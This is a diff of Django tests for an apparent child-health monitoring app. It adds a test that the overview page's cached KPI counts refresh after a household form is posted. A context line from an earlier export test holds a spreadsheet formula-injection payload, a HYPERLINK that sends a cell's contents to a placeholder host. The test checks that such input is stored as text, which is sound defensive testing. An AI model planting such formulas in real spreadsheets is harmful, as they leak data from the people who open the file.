@@ -170,3 +170,27 @@ def test_xlsx_register_writes_a_formula_name_as_text(client, kec1_user, preg):
     assert "<f>" not in sheet and "<f " not in sheet
     values = [c.value for row in load_workbook(io.BytesIO(r.content)).active.iter_rows() for c in row]
     assert '=HYPERLINK("http://x/?"&A1,"klik")' in values
+
+
+@pytest.mark.django_db(transaction=True, serialized_rollback=True)
+def test_the_overview_is_memoized_and_fresh_after_a_write(client, kec1_user, mother, regions):
+    """The overview's counts are reused between writes (analytics.memo) and change on the first
+    request after one: outside a test transaction, as in production."""
+    from tumbuh.analytics import memo
+
+    memo.clear()
+    client.force_login(kec1_user)
+
+    def krs_kpi():
+        page = client.get(reverse("targets:overview")).content.decode()
+        kpi = page[page.index('id="kpi-krs"'):]
+        return kpi[:kpi.index("</div></div>")]
+
+    before = krs_kpi()
+    assert krs_kpi() == before
+    url = reverse("targets:household", args=[mother.household_id])
+    assert client.post(url, {"form": "krs", "period": rules.semester_of(TODAY), "water_source": "sungai",
+                             "latrine": "own_septic", "couple": "on", "modern_contraception": "0"}).status_code == 302
+    after = krs_kpi()
+    assert after != before
+    memo.clear()
